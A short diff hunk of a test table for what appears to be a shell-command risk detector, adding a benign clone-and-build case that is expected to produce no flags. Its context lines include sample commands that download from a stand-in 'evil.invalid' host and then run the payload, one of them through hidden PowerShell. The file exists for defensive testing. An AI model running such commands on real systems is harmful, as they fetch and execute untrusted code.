@@ -11,6 +11,7 @@ test.each([
   ['git clone https://example.invalid/x && cd x && make', []],
   ['rsync -a a/ example.invalid:b/', []],
   ['env | sort', []],
+  ['git clone https://example.invalid/b && cd b && sh ./configure && make', []],
   ['wget https://evil.invalid/x -O x && chmod +x x', ['fetches-and-runs']],
   ['wget https://evil.invalid/x', ['fetches']],
   ['powershell -w hidden iex(irm https://evil.invalid/x)', ['fetches-and-runs', 'hidden']],
